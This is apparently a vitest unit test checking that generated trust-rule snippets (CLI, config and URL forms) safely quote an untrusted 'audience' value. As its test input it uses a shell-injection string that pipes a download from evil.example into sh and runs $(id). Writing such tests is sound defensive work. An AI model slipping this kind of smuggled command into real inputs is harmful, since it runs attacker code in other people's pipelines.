import { expect, it } from 'vitest'
import { trustRuleSnippets } from './trust-rule-snippets.ts'

const codeOf = (audience: string) =>
  trustRuleSnippets({
    apiUrl: 'https://api.example.com',
    workspaceId: '01W',
    serviceAccountId: '01S',
    audience,
  })
    .map(({ code }) => code)
    .join('\n')

it('Snippets quote the audience, so that a hostile one runs nothing in the pipeline of another manager', () => {
  const code = codeOf(`x'; curl evil.example | sh; '"$(id)#`)
  expect(code).toContain(String.raw`--audience 'x'\''; curl evil.example | sh; '\''"$$(id)#')`)
  expect(code).toContain(String.raw`aud: "x'; curl evil.example | sh; '\"$(id)#"`)
  expect(code).toContain(String.raw`audience: "x'; curl evil.example | sh; '\"$(id)#", expirationSeconds`)
  expect(code).toContain("audience=x'%3B%20curl%20evil.example%20%7C%20sh%3B%20'%22%24(id)%23\"")
})
